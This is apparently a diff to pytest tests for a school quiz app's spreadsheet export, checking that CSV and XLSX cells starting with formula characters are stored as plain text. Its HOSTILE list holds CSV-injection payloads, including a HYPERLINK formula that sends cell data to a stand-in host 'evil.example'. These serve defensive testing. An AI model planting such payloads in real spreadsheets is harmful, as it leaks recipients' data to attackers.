@@ -11,9 +11,12 @@ from decimal import Decimal
 import openpyxl
 import pytest
 
-from quizcore.reports import files, spreadsheets
-from quizcore.reports.students import HEADER, students_csv, students_xlsx
+from quizcore.documents import files, spreadsheets
 
+#: A table like the students download's.
+HEADER = ("Name", "Email", "Registration Number", "Class Name", "Section", "Academic Year",
+          "Date of Birth", "Parent Email", "Parent Phone", "Account Claimed", "Active",
+          "Created At (UTC)")
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+1", "-1+2",
            "@SUM(A1:A9)", "\tTabbed", "\rReturned", "＝1+1"]
 
@@ -35,8 +38,7 @@ def test_ordinary_text_is_left_alone(text):
 
 
 def test_csv_cells_that_would_run_are_text_and_other_values_keep_their_form():
-    data = b"".join(students_csv([student_row(n) for n in HOSTILE], "all",
-                                 dt.date(2026, 1, 31)).chunks)
+    data = spreadsheets.csv_bytes(HEADER, [student_row(n) for n in HOSTILE])
     assert data.startswith(b"\xef\xbb\xbf")
     rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
     assert rows[0] == list(HEADER)
@@ -61,7 +63,10 @@ def test_csv_is_streamed_in_chunks_with_one_bom():
 
 
 def test_xlsx_has_no_formula_and_typed_cells():
-    body = students_xlsx([student_row(n) for n in HOSTILE], "all", dt.date(2026, 1, 31)).body
+    book = spreadsheets.XlsxBook()
+    book.sheet("Students").table(HEADER, [student_row(n) for n in HOSTILE], freeze=True,
+                                 autofilter=True)
+    body = book.close()
     with zipfile.ZipFile(io.BytesIO(body)) as archive:
         sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
         assert sheets
